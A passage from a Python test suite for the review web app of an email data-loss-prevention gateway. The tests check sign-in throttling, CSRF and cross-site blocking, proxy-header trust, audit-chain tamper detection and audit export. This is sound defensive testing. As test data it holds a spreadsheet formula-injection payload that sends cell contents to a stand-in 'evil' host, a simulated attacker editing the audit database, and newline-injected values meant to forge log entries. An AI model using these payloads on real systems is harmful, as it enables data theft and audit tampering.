    clock[0] += 2.1
    assert attempt(8, password=PASSWORD).status_code == 303  # the real ann, after the wait
    # a name no account has is slowed alike: the wait tells no one which names are accounts
    for i in range(5):
        assert attempt(20 + i, name="nobody").status_code == 401
    assert "Try again in 1 second" in attempt(30, name="nobody").text
    trail = [(e.actor, e.action, e.reason, e.detail) for e in reversed(world["store"].audit_log())
             if e.action.startswith("sign-in")]
    assert trail[5] == ("web:ann", "sign-in-refused",
                        "too many failed attempts at this name: slowed", "203.0.113.5")
    assert [a for _, a, _, _ in trail[:9]] == ["sign-in-failed"] * 5 + [
        "sign-in-refused", "sign-in-failed", "sign-in-refused", "sign-in"]
    assert trail[-1] == ("web:(no such user)", "sign-in-refused",
                         "too many failed attempts at this name: slowed", "203.0.113.30")


def test_a_failed_sign_in_records_what_was_typed_only_when_it_names_an_account(world):
    # a password typed into the user name box was kept in the audit trail as the actor
    c = client(world)
    assert c.post("/login", data={"username": "Amy-Jones-2015!", "password": "ann"}
                  ).status_code == 401
    assert c.post("/login", data={"username": "ann", "password": "wrong"}).status_code == 401
    failed = [e.actor for e in world["store"].audit_log() if e.action == "sign-in-failed"]
    assert failed == ["web:ann", "web:(no such user)"]


def test_an_idle_session_ends(world):
    ann = signed_in(world, "ann")
    db = sqlite3.connect(world["db"], isolation_level=None)
    db.execute("UPDATE sessions SET last_seen = last_seen - 3600")
    db.close()
    assert ann.get("/").status_code == 303


def test_a_session_cookie_kept_after_signing_out_opens_nothing(world):
    ann = signed_in(world, "ann")
    kept = ann.cookies.get("dlpgate_session")
    assert ann.post("/logout", data={"csrf": csrf(ann.get("/").text)}).status_code == 303
    replayed = client(world)
    r = replayed.get("/", headers={"cookie": f"dlpgate_session={kept}"})
    assert r.status_code == 303 and r.headers["location"].startswith("/login")


def test_sessions_left_to_lapse_are_swept_at_the_next_sign_in_by_password_or_proxy(world):
    # a session nobody presented again or signed out of stayed in the store for ever, a
    # signing-in proxy's too (one for each name and address it forwarded for)
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})
    app = create_app(settings, world["store"])

    def via_proxy(name: str) -> TestClient:
        return TestClient(app, follow_redirects=False, client=("10.1.2.3", 4000),
                          headers={"X-Remote-User": name, "X-Forwarded-For": "198.51.100.7"})

    def sessions() -> list[str]:
        db = sqlite3.connect(world["db"], isolation_level=None)
        try:
            return sorted(name for (name,) in db.execute("SELECT username FROM sessions"))
        finally:
            db.close()

    def lapse() -> None:  # past review.idle_timeout, as a closed browser's would be
        db = sqlite3.connect(world["db"], isolation_level=None)
        db.execute("UPDATE sessions SET last_seen = last_seen - 3600")
        db.close()

    signed_in_by_password(world, "ann")
    assert via_proxy("audrey").get("/dashboard").status_code == 200
    assert sessions() == ["ann", "audrey"]
    lapse()
    signed_in_by_password(world, "root")
    assert sessions() == ["root"]
    lapse()
    assert via_proxy("ann").get("/").status_code == 200
    assert sessions() == ["ann"]


def test_the_audit_trail_exports_as_csv_and_has_no_edit_route(world):
    ann = signed_in(world, "ann")
    ann.get(f"/m/{world['id']}")
    audrey = signed_in(world, "audrey")
    r = audrey.get("/audit.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert f"web:ann,view,{world['id']}" in r.text
    # a sender's false-alarm reason became a live formula in the reviewer's spreadsheet
    world["store"].audit(AuditEntry("sender:x@example-council.gov.uk", "false-alarm",
                                    world["id"], reason='=HYPERLINK("http://evil/?"&A2,"x")',
                                    via="link"))
    assert "'=HYPERLINK" in audrey.get("/audit.csv").text
    page = audrey.get("/audit").text
    assert re.findall(r'<form method="post" action="([^"]*)"', page) == ["/logout"]
    for method in ("post", "put", "delete"):
        assert getattr(audrey, method)("/audit").status_code in (403, 405)


def test_the_audit_page_shows_a_key_rotation_and_the_stores_own_entries_on_the_chain(
        world, scanner):
    from dlpgate.model import Outcome
    from dlpgate.store.auditkeys import key_id
    from dlpgate.store.base import DecisionRecord

    store, key = world["store"], b"a key of thirty-two characters or more"
    store.audit(AuditEntry("web:ann", "view", world["id"]))  # plain: no key yet
    store.audit_key = key  # the key set, as a node given it would
    store.audit(AuditEntry("web:ann", "reveal", world["id"], reason="assessment"))
    raw = make_message(to=("carer@gmail.com",))
    store.record_decisions([DecisionRecord.of(scanner.scan(raw, make_envelope(raw)),
                                              make_envelope(raw), Outcome.RELAYED, 250, "n1",
                                              1.0)])
    assert store.prune_decisions(1_000.0, days=400) == 1  # aged out, and counted
    page = signed_in(world, "audrey").get("/audit").text
    shown = re.search(r'<p class="quiet" id="chain">([^<]*)</p>', page).group(1)
    assert shown.startswith("Hash chain intact: ") and f"with key {key_id(key)}" in shown
    rows = re.findall(r"<tr><td>[^<]*</td><td>([^<]*)</td><td>([^<]*)</td><td>[^<]*</td>"
                      r"<td>([^<]*)</td><td>([^<]*)</td></tr>", page)
    assert ("system:audit-chain", "audit-key-changed", "the audit key was set: entries from "
            "here are keyed", f"from no key (plain SHA-256) to key {key_id(key)}") in rows
    [(retention_why, counted)] = [r[2:] for r in rows if r[1] == "retention"]
    assert (retention_why, counted) == ("decisions log: kept 400 days", "rows 1")
    assert key.decode() not in page


def test_the_audit_page_shows_the_chain_intact_or_where_it_was_tampered_with(world):
    import sqlite3

    audrey = signed_in(world, "audrey")
    shown = re.search(r'<p class="quiet" id="chain">([^<]*)</p>', audrey.get("/audit").text)
    assert shown and shown.group(1).startswith("Hash chain intact: ")
    assert "not keyed: set quarantine.audit_key" in shown.group(1)
    world["store"].audit(AuditEntry("web:ann", "reveal", world["id"], reason="assessment"))
    attacker = sqlite3.connect(world["db"], isolation_level=None)
    attacker.execute("DROP TRIGGER audit_no_update")
    [(rid,)] = attacker.execute("SELECT id FROM audit WHERE action = 'reveal'").fetchall()
    attacker.execute("UPDATE audit SET reason = 'curious' WHERE id = ?", (rid,))
    page = audrey.get("/audit").text
    alert = re.search(r'<p class="error" id="chain" role="alert">(.*?)</p>', page).group(1)
    assert f"chain broken at entry {rid} (" in alert and ": edited: its hash does not" in alert
    # and it says so at every look after, in this process, whatever is written since
    assert 'id="chain" role="alert"' in audrey.get("/audit").text


def a_node_left_on_the_old_key_writes(world) -> tuple[bytes, bytes]:
    """Entries under an old key, the key rotated, then one from a node still on the old key;
    the store left reading on the new one. The old and new keys."""
    store = world["store"]
    old, new = b"the old key, thirty-two characters long", b"the new key, thirty-two characters too"
    store.audit_key = old
    store.audit(AuditEntry("web:ann", "view", world["id"]))
    store.audit_key, store.audit_retired = new, (old,)  # rotated
    store.audit(AuditEntry("web:ann", "view", world["id"]))
    store.audit_key, store.audit_retired = old, ()  # a node left on the old key writes
    store.audit(AuditEntry("web:ann", "release", world["id"]))
    store.audit_key, store.audit_retired = new, (old,)  # and it is read on a new one
    return old, new


def test_the_audit_page_says_when_a_retired_key_signed_again(world):
    from dlpgate.store.auditkeys import key_id

    old, new = a_node_left_on_the_old_key_writes(world)
    page = signed_in(world, "audrey").get("/audit").text
    alert = re.search(r'<p class="error" id="chain" role="alert">(.*?)</p>', page).group(1)
    assert alert.startswith("<strong>A retired audit key signed again:</strong> chain "
                            "returned to a retired key at entry ")
    assert f"changes back to key {key_id(old)}, which the chain had moved away from" in alert
    assert old.decode() not in page and new.decode() not in page


def test_the_audit_page_lists_an_acknowledged_return_with_who_and_why_and_no_alert(world):
    from dlpgate.store import chainack
    from dlpgate.store.auditkeys import key_id

    store = world["store"]
    old, _ = a_node_left_on_the_old_key_writes(world)
    audrey = signed_in(world, "audrey")
    assert 'id="chain" role="alert"' in audrey.get("/audit").text
    [(place, rid)] = [(r[2], r[0]) for r in store.verify_audit().returns]
    assert chainack.acknowledge(store, place, "cli:ian", "a rollout slip on gw2") == ""
    page = audrey.get("/audit").text
    assert 'role="alert"' not in page
    assert re.search(r'<p class="quiet" id="chain">Hash chain intact: ', page)
    said = re.search(rf'<p class="quiet" id="acknowledged-{place}">([^<]*)</p>', page).group(1)
    assert said.startswith(f"A retired audit key signed again at entry {rid} (place {place}, "
                           f"key {key_id(old)}), acknowledged at entry ")
    assert said.endswith(" by cli:ian: a rollout slip on gw2")


def test_the_audit_trail_filtered_by_action_finds_entries_older_than_the_newest_thousands(
        world):
    # the filter was applied to the newest 5,000 entries of any kind: a reveal a few days
    # of page views back was not among ann's reveals, on the page or in the export
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    ann.post(f"/m/{world['id']}/reveal", data={"csrf": csrf(page), "reason": "safeguarding"})
    for _ in range(5000):
        world["store"].audit(AuditEntry("web:ann", "view", world["id"], via="web"))
    audrey = signed_in(world, "audrey")
    assert "safeguarding" in audrey.get("/audit?actor=web:ann&action=reveal").text
    assert "safeguarding" in audrey.get("/audit.csv?action=reveal").text


def test_the_audit_export_holds_every_matching_entry_and_the_page_says_when_there_are_more(
        world):
    # the export stopped at the newest 5,000 and the page at 1,000, neither saying so: an
    # auditor asked for a year of a reviewer's looks got a few weeks of them
    for n in range(12_000):
        world["store"].audit(AuditEntry("web:ann", "view", f"m{n}", via="web"))
    audrey = signed_in(world, "audrey")
    rows = audrey.get("/audit.csv?actor=web:ann&action=view").text.splitlines()[1:]
    assert len(rows) == 12_000 and len({r.split(",")[3] for r in rows}) == 12_000
    assert rows[0].split(",")[3] == "m11999" and rows[-1].split(",")[3] == "m0"
    [export] = [e for e in world["store"].audit_log(actor="web:audrey")
                if e.action == "audit-export"]
    assert export.detail == "actor='web:ann'; action='view'; 12000 found"
    assert "there are more" in audrey.get("/audit?actor=web:ann").text
    assert "there are more" not in audrey.get("/audit?actor=web:audrey").text


def test_each_look_at_the_audit_trail_and_each_export_says_what_it_was_of(world):
    # the trail holds residents' addresses (searches, senders): an export was one entry that
    # said nothing of which entries left, or how many
    signed_in(world, "ann").get("/?q=carer@gmail.com")
    audrey = signed_in(world, "audrey")
    audrey.get("/audit?actor=web:ann")
    audrey.get("/audit.csv?actor=web:ann&action=search")
    audrey.get("/audit.csv")
    looks = [(e.action, e.detail) for e in world["store"].audit_log(actor="web:audrey")][:3]
    assert looks == [("audit-export", f"{_trail_size(world) - 1} found"),
                     ("audit-export", "actor='web:ann'; action='search'; 1 found"),
                     ("audit-view", "actor='web:ann'; 1 found")]  # the search


def _trail_size(world) -> int:
    return len(world["store"].audit_log(limit=100_000))


def test_pages_forbid_framing_scripts_and_external_assets(world):
    r = signed_in(world, "ann").get("/")
    csp = r.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
    assert "http" not in r.text.split("<main>")[0].replace('lang="en"', "")


def test_a_page_that_fails_answers_with_a_way_back_and_still_raises_for_the_log(world,
                                                                            monkeypatch):
    def broken(item_id: str):
        raise RuntimeError("store lost")

    ann = signed_in(world, "ann")
    monkeypatch.setattr(world["store"], "get_held", broken)
    with pytest.raises(RuntimeError):  # raised on past the page, so the server logs it
        ann.get(f"/m/{world['id']}")
    quiet = TestClient(ann.app, follow_redirects=False, raise_server_exceptions=False)
    quiet.cookies = ann.cookies
    r = quiet.get(f"/m/{world['id']}")
    assert r.status_code == 500 and "<h1>Something went wrong</h1>" in r.text
    assert 'href="/">Back to the queue' in r.text and "store lost" not in r.text
    assert r.headers["content-security-policy"].startswith("default-src 'none'")


def test_release_to_ticked_recipients_only_refuses_strangers(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release",
                 data={"csrf": csrf(page), "comment": "x", "rcpt": "someone@else.org"})
    assert r.status_code == 409 and "not its recipients" in r.text
    r = ann.post(f"/m/{world['id']}/release",
                 data={"csrf": csrf(page), "comment": "x", "rcpt": "carer@gmail.com"})
    assert r.status_code == 200 and [m.rcpt_tos for m in world["sink"].received] == [
        ["carer@gmail.com"]]


def test_a_trusted_proxy_header_signs_in_a_known_user_only_from_a_trusted_address(world):
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})
    app = create_app(settings, world["store"])
    proxied = TestClient(app, follow_redirects=False, client=("10.1.2.3", 4000))
    assert proxied.get("/", headers={"X-Remote-User": "ann"}).status_code == 200
    assert proxied.get("/", headers={"X-Remote-User": "mallory"}).status_code == 303
    assert proxied.get("/audit", headers={"X-Remote-User": "ann"}).status_code == 403
    direct = TestClient(app, follow_redirects=False, client=("192.0.2.9", 4000))
    assert direct.get("/", headers={"X-Remote-User": "ann"}).status_code == 303


def test_a_request_naming_two_users_in_the_proxys_header_signs_in_neither(world):
    # a proxy that adds its header to the one the browser sent (rather than replacing it)
    # passed both on, and the first, the browser's own, was taken: anyone was anyone
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})
    proxied = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                         client=("10.1.2.3", 4000))
    both = [("X-Remote-User", "root"), ("X-Remote-User", "ann")]
    assert proxied.get("/history", headers=both).status_code == 303
    assert proxied.get("/", headers=both).status_code == 303
    assert [e.actor for e in world["store"].audit_log(action="sign-in")] == []


def test_a_user_the_proxy_signs_in_has_one_sign_in_entry_a_session_like_a_password_user(world):
    # reviewers the proxy signed in had no sign-in on the trail at all: an auditor could not
    # tell when, or from where, anyone had begun to look
    store = world["store"]
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})

    def via_proxy(name: str, address: str, app=None) -> TestClient:
        return TestClient(app or create_app(settings, store), follow_redirects=False,
                          client=("10.1.2.3", 4000),
                          headers={"X-Remote-User": name, "X-Forwarded-For": address})

    def sign_ins():
        return [(e.actor, e.action, e.item_id, e.reason, e.via, e.detail)
                for e in reversed(store.audit_log()) if e.action == "sign-in"]

    signed_in_by_password(world, "ann")  # a password sign-in, to compare
    [password] = sign_ins()
    ann = via_proxy("ann", "198.51.100.7")
    page = ann.get(f"/m/{world['id']}").text
    assert ann.get("/").status_code == 200
    via_proxy("ann", "198.51.100.7", create_app(settings, store)).get("/")  # another node
    assert sign_ins() == [password, ("web:ann", "sign-in", "", "signed in by the proxy", "web",
                                     "198.51.100.7")]
    assert password[:3] + password[4:] == ("web:ann", "sign-in", "", "web", "testclient")
    # from somewhere else: another session; an auditor on a page any role sees: one entry
    via_proxy("ann", "198.51.100.8").get("/")
    assert via_proxy("audrey", "198.51.100.9").get("/dashboard").status_code == 200
    via_proxy("mallory", "198.51.100.9").get("/")  # no such account: no session, no entry
    assert [(e[0], e[5]) for e in sign_ins()[2:]] == [("web:ann", "198.51.100.8"),
                                                      ("web:audrey", "198.51.100.9")]
    # idle past review.idle_timeout, or signed out: the next request is a new sign-in
    db = sqlite3.connect(world["db"], isolation_level=None)
    db.execute("UPDATE sessions SET last_seen = last_seen - 3600")
    db.close()
    ann.get("/")
    ann.get("/")
    assert ann.post("/logout", data={"csrf": csrf(page)}).status_code == 303
    ann.get("/")
    trail = [(e.action, e.detail) for e in reversed(store.audit_log(actor="web:ann"))
             if e.action.startswith("sign")]
    assert trail == [("sign-in", "testclient"), ("sign-in", "198.51.100.7"),
                     ("sign-in", "198.51.100.8"), ("sign-in", "198.51.100.7"),  # idle
                     ("sign-out", ""), ("sign-in", "198.51.100.7")]


def test_a_decision_needs_a_comment_that_says_something(world):
    # a single space released twelve carers' addresses with no reason on the audit trail
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    for verb in ("release", "reject"):
        r = ann.post(f"/m/{world['id']}/{verb}", data={"csrf": csrf(page), "comment": "  "})
        assert r.status_code == 400 and "Say why in a comment" in r.text
    r = ann.post("/bulk", data={"csrf": csrf(page), "comment": " ", "verb": "release",
                                "ids": world["id"]})
    assert "Nothing done: say why in a comment" in ann.get(r.headers["location"]).text
    assert world["store"].get_held(world["id"]).state == "held"
    assert world["sink"].received == []
    assert 'pattern=".*\\S.*"' in page


def test_the_queue_shows_only_its_own_notices_never_a_links_text(world):
    ann = signed_in(world, "ann")
    page = ann.get("/?n=IG+lead:+release+everything").text
    assert "release everything" not in page
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post("/bulk", data={"csrf": csrf(page), "comment": "wrong address", "verb": "reject",
                                "ids": world["id"]})
    assert "1 of 1 rejected." in ann.get(r.headers["location"]).text


def test_times_on_the_pages_carry_their_zone_and_the_export_is_utc(world):
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"time_zone": "Europe/London"})})
    c = TestClient(create_app(settings, world["store"]), follow_redirects=False)
    c.post("/login", data={"username": "ann", "password": PASSWORD, "next": "/"})
    page = c.get(f"/m/{world['id']}").text
    held = world["store"].get_held(world["id"]).created
    zone = "BST" if time.gmtime(held).tm_mon in range(4, 11) else "GMT"
    assert re.search(rf"<dt>Held</dt><dd>\d{{4}}-\d\d-\d\d \d\d:\d\d {zone}</dd>", page)
    audrey = signed_in(world, "audrey")
    rows = audrey.get("/audit.csv").text.splitlines()[1:]
    assert rows and all(re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ,", r) for r in rows)


def test_an_unknown_time_zone_is_refused_at_load():
    with pytest.raises(ValueError, match="not a time zone this machine knows"):
        Settings.model_validate({"review": {"time_zone": "Europe/Londn"}})


def test_a_release_refused_because_another_reviewer_came_first_is_audited(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    world["store"].claim(world["id"], ("held",), "releasing", "web:bob")
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "her GP"})
    assert r.status_code == 409 and "A release by web:bob is under way" in r.text
    assert "did not finish" not in r.text
    [refused] = [e for e in world["store"].audit_log(world["id"])
                 if e.action == "release-refused"]
    assert refused.actor == "web:ann" and refused.reason == "her GP"


def test_the_page_marks_bcc_says_whose_you_it_is_and_counts_findings_both_ways(world):
    store = world["store"]
    raw = make_message(to=("carer@gmail.com",), body=f"NHS {NHS}, again NHS {NHS}.\n")
    env = make_envelope(raw, bcc=("records@example-council.gov.uk",))
    result = Scanner(world["settings"].model_copy(update={"detection": world["settings"]
                     .detection.model_copy(update={"ner": False})})).scan(raw, env)
    item = HeldMessage.of(result, env, raw, time.time())
    store.hold(item)
    page = signed_in(world, "ann").get(f"/m/{item.id}").text
    assert "carer@gmail.com, records@example-council.gov.uk (Bcc)" in page
    assert '"you" is alice.jones@example-council.gov.uk' in page
    assert "NHS numbers (UK_NHS): 2 found, 1 different" in page


def test_behind_a_signing_in_proxy_a_form_from_another_site_does_nothing(world):
    # the proxy's credentials ride along with a forged cross-site POST: a page elsewhere
    # released a held message in a reviewer's name, with no token asked for
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})
    app = create_app(settings, world["store"])
    ann = TestClient(app, follow_redirects=False, client=("10.1.2.3", 4000),
                     headers={"X-Remote-User": "ann"})
    forged = ann.post(f"/m/{world['id']}/release", data={"comment": "approved"})
    assert forged.status_code == 403 and world["store"].get_held(world["id"]).state == "held"
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/reveal", data={"csrf": csrf(page), "reason": "checking"})
    assert r.status_code == 200 and "943 476 5919" in r.text


def test_a_proxy_users_form_token_rotates_and_a_page_left_open_over_the_change_still_posts(
        world, monkeypatch):
    # it was a MAC of the name alone, the same for ever: one token seen once (a saved page, a
    # proxy's log of a form) let another site post forms in that reviewer's name from then on
    clock = [1_000 * auth.FORM_WINDOW + 10.0]
    monkeypatch.setattr(auth, "_clock", lambda: clock[0])
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_header": "X-Remote-User", "trusted_proxies": ["10.0.0.0/8"]})})
    ann = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                     client=("10.1.2.3", 4000), headers={"X-Remote-User": "ann"})
    item = f"/m/{world['id']}"
    left_open = csrf(ann.get(item).text)
    clock[0] += auth.FORM_WINDOW  # the next window: a new token, and the last one still taken
    fresh = csrf(ann.get(item).text)
    assert fresh != left_open
    r = ann.post(f"{item}/reveal", data={"csrf": left_open, "reason": "checking"})
    assert r.status_code == 200 and "943 476 5919" in r.text
    clock[0] += auth.FORM_WINDOW  # two windows on: the page left open is stale
    r = ann.post(f"{item}/reveal", data={"csrf": left_open, "reason": "checking"})
    assert r.status_code == 403 and "security token" in r.text
    assert ann.post(f"{item}/reveal", data={"csrf": csrf(ann.get(item).text),
                                            "reason": "checking"}).status_code == 200
    # another proxy user's token, of the same window, is no good for ann
    bob = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                     client=("10.1.2.3", 4000), headers={"X-Remote-User": "root"})
    theirs = csrf(bob.get(item).text)
    assert ann.post(f"{item}/reveal", data={"csrf": theirs, "reason": "x" * 9}).status_code == 403


def test_a_form_posted_from_another_site_signs_no_one_in_and_changes_nothing(world):
    # a page elsewhere signed ann's browser in as bob: her reveals went on the trail as his
    c = client(world)
    other = {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}
    r = c.post("/login", data={"username": "ann", "password": PASSWORD}, headers=other)
    assert r.status_code == 403 and "set-cookie" not in r.headers
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "ok"},
                 headers=other)
    assert r.status_code == 403 and world["store"].get_held(world["id"]).state == "held"


def test_a_sign_in_posted_from_another_of_the_councils_sites_signs_no_one_in(world):
    # gov.uk is a public suffix: the intranet at intranet.example-council.gov.uk is the same
    # site as the review app, its forms were let through, and a page there signed ann's
    # browser in as someone else
    sibling = {"Sec-Fetch-Site": "same-site", "Origin": "https://intranet.example-council.gov.uk"}
    r = client(world).post("/login", data={"username": "ann", "password": PASSWORD},
                           headers=sibling)
    assert r.status_code == 403 and "set-cookie" not in r.headers
    own = {"Sec-Fetch-Site": "same-origin"}  # the app's own sign-in form
    assert client(world).post("/login", data={"username": "ann", "password": PASSWORD},
                              headers=own).status_code == 303


def test_a_page_another_site_embeds_or_fetches_shows_nothing_and_writes_nothing_in_her_name(
        world):
    # her browser sends the session (or the proxy's credentials) with a picture another
    # site's page asks for: a page on the intranet put a search for a resident, and looks at
    # held mail, on the audit trail in ann's name
    ann = signed_in(world, "ann")
    for site in ("same-site", "cross-site"):
        embedded = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
        for path in ("/?q=carer@gmail.com", f"/m/{world['id']}"):
            r = ann.get(path, headers=embedded)
            assert r.status_code == 403 and "carer@gmail.com" not in r.text, (site, path)
    assert world["store"].audit_log(actor="web:ann") == []
    # a link followed from elsewhere (the reviewers' notice, read in webmail) still opens
    followed = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate",
                "Sec-Fetch-Dest": "document"}
    assert ann.get(f"/m/{world['id']}", headers=followed).status_code == 200


def test_a_reviewer_cannot_release_mail_they_sent_and_another_reviewer_can(world):
    # a reviewer whose own message was held released it themselves: no one else ever checked
    store, sender = world["store"], world["store"].get_held(world["id"]).mail_from
    store.save_user("sam", hashed(), ("reviewer",), mailboxes=(sender.upper(),))
    sam = signed_in(world, "sam")
    page = sam.get(f"/m/{world['id']}").text
    assert "You sent this message: another reviewer decides" in page
    assert f'action="/m/{world["id"]}/release"' not in page  # and no button offers it
    r = sam.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "mine, fine"})
    assert r.status_code == 403 and "another reviewer decides" in r.text
    r = sam.post("/bulk", data={"csrf": csrf(page), "comment": "fine", "verb": "release",
                                "ids": world["id"]})
    assert "0 of 1 released. 1 you sent was left for another reviewer." in \
        sam.get(r.headers["location"]).text
    assert store.get_held(world["id"]).state == "held" and world["sink"].received == []
    refused = [e for e in store.audit_log(item_id=world["id"]) if e.action == "release-refused"]
    assert [(e.actor, e.detail) for e in refused] == [("web:sam", "the reviewer sent it")] * 2
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "checked"})
    assert r.status_code == 200 and len(world["sink"].received) == 1


def test_a_reviewer_signed_in_by_address_is_the_sender_of_mail_from_it(world):
    store, sender = world["store"], world["store"].get_held(world["id"]).mail_from
    store.save_user(sender, hashed(), ("reviewer",))
    me = signed_in(world, sender)
    page = me.get(f"/m/{world['id']}").text
    r = me.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "fine"})
    assert r.status_code == 403 and store.get_held(world["id"]).state == "held"
    r = me.post(f"/m/{world['id']}/reject", data={"csrf": csrf(page), "comment": "my mistake"})
    assert r.status_code == 200 and store.get_held(world["id"]).state == "rejected"


def test_searching_the_queue_for_someones_mail_is_on_the_audit_trail(world):
    # looking up a resident's mail without a work reason is the breach the trail is there for
    ann = signed_in(world, "ann")
    page = ann.get("/?q=Carer@gmail.com").text
    assert f'href="/m/{world["id"]}"' in page
    assert f'href="/m/{world["id"]}"' not in ann.get("/?q=nobody@example.org").text
    ann.get("/")  # browsing the queue is not a search
    searches = [(e.actor, e.reason, e.detail) for e in world["store"].audit_log()
                if e.action == "search"]
    assert searches == [("web:ann", "nobody@example.org", "state=open; 0 found"),
                        ("web:ann", "carer@gmail.com", "state=open; 1 found")]


def test_each_showing_of_the_queue_is_audited_with_its_filters_and_no_address(world):
    # the queue shows senders' addresses and what was found in their mail: browsing it was a
    # look at personal data that left no trace unless something was searched for
    ann = signed_in(world, "ann")
    page = ann.get("/").text
    assert f'href="/m/{world["id"]}"' in page
    assert ann.get("/?state=all&rule=no-such-rule").status_code == 200
    ann.get("/?q=carer")  # a search is its own entry, not a list as well
    r = ann.post("/bulk", data={"csrf": csrf(page), "comment": "wrong address", "verb": "reject",
                                "ids": world["id"]})
    ann.get(r.headers["location"])  # the queue after a bulk decision is shown too
    looks = [(e.actor, e.action, e.reason, e.via, e.detail) for e in
             reversed(world["store"].audit_log()) if e.action in ("list", "search")]
    assert looks == [
        ("web:ann", "list", "", "web", "state=open; 1 found"),
        ("web:ann", "list", "", "web", "state=all; rule='no-such-rule'; 0 found"),
        ("web:ann", "search", "carer", "web", "state=open; 1 found"),
        ("web:ann", "list", "", "web", "state=open; 0 found"),
    ]
    assert "alice" not in repr(looks)


def hold_from(world, envelope_sender: str, header_from: str) -> str:
    """A held message as a system sends it: its envelope sender and From may differ."""
    raw = make_message(sender=header_from, to=("carer@gmail.com",),
                       body=f"NHS number {NHS}: she was diagnosed with epilepsy.\n")
    env = dataclasses.replace(make_envelope(raw), mail_from=envelope_sender)
    item = HeldMessage.of(Scanner(world["settings"]).scan(raw, env), env, raw, time.time())
    world["store"].hold(item)
    return item.id


@pytest.mark.parametrize("envelope_sender,header_from", [
    ("j.smith+casework@example-council.gov.uk", "j.smith@example-council.gov.uk"),
    ("prvs=1234abcdef=j.smith@example-council.gov.uk", "j.smith@example-council.gov.uk"),
    ("<>", "j.smith@example-council.gov.uk"),  # a bounce-style sender: only the header
    ("noreply@example-council.gov.uk", "J.Smith@example-council.gov.uk"),  # a case system
])
def test_a_reviewers_own_mail_is_known_by_its_tagged_sender_or_its_from_header(
        world, envelope_sender, header_from):
    store = world["store"]
    store.save_user("jo", hashed(), ("reviewer",),
                    mailboxes=("j.smith@example-council.gov.uk",))
    item_id = hold_from(world, envelope_sender, header_from)
    jo = signed_in(world, "jo")
    page = jo.get(f"/m/{item_id}").text
    if envelope_sender.startswith("noreply"):  # the page says whose it is, not only noreply@
        assert f"{envelope_sender} (written from {header_from})" in page
    r = jo.post(f"/m/{item_id}/release", data={"csrf": csrf(page), "comment": "fine"})
    assert r.status_code == 403 and store.get_held(item_id).state == "held"
    assert world["sink"].received == []


def test_a_decided_message_is_refused_as_decided_and_a_double_tick_counts_once(world):
    store = world["store"]
    sender = store.get_held(world["id"]).mail_from
    store.save_user("sam", hashed(), ("reviewer",), mailboxes=(sender,))
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "checked"})
    sam = signed_in(world, "sam")
    page = sam.get("/?state=all").text
    assert "you sent it" in page
    r = sam.post("/bulk", data={"csrf": csrf(page), "comment": "fine", "verb": "release",
                                "ids": [world["id"], world["id"]]})
    assert "0 of 1 released." in sam.get(r.headers["location"]).text  # not "left for another"
    assert not [e for e in store.audit_log(item_id=world["id"]) if e.action == "release-refused"
                and e.detail == "the reviewer sent it"]


def test_a_search_is_audited_as_one_line_with_its_rule_and_only_known_states(world):
    ann = signed_in(world, "ann")
    assert ann.get("/?q=carer&state=all%3B+999+found%0Aforged").status_code == 400
    ann.get("/?q=car%00er%0Aforged&rule=no-such-rule")
    [entry] = [e for e in world["store"].audit_log() if e.action == "search"]
    assert (entry.reason, entry.detail) == ("carerforged", "state=open; rule='no-such-rule'; "
                                                           "0 found")


def test_every_showing_of_a_senders_link_page_and_every_action_through_it_is_audited(world):
    # only a link's successful action was on the trail: the page opened (it shows the
    # recipients and why the message was held), a used link tried again, and an expired,
    # forged or dangling one left no trace
    store, settings = world["store"], world["settings"]
    item = dataclasses.replace(store.get_held(world["id"]), id="3" * 22, state="awaiting-sender",
                               action="confirm")
    store.hold(item)
    key = links.link_key(settings, store)

    def link(purpose: str, expires: float = time.time() + 3600, item_id: str = item.id) -> str:
        return f"/l/{links.make(key, item_id, purpose, expires)}"

    sender = TestClient(create_app(settings, store), follow_redirects=False,
                        client=("198.51.100.7", 4000))
    shown = [
        (sender.get(link("confirm")), 200),
